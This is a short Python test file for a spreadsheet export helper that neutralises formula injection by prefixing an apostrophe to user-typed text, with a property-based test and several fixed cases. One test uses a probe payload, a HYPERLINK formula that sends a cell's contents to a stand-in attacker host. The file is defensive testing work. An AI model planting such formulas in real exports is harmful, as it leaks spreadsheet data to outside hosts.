"""Spreadsheet cells: a text typed by a person never reaches a spreadsheet as a formula."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from service.kit.exports import FORMULA_STARTS, text_cell


@given(st.text())
def test_no_cell_starts_a_formula_and_the_text_is_kept(value: str) -> None:
    cell = text_cell(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (value, f"'{value}")


def test_the_probe_payload_and_plain_names() -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"Klikk")'
    assert text_cell(payload) == "'" + payload
    assert text_cell("Raufoss Robotics AS") == "Raufoss Robotics AS"
    assert text_cell("-20 % rabatt") == "'-20 % rabatt" and text_cell("@home") == "'@home"
    assert text_cell(None) == "" and text_cell("") == ""
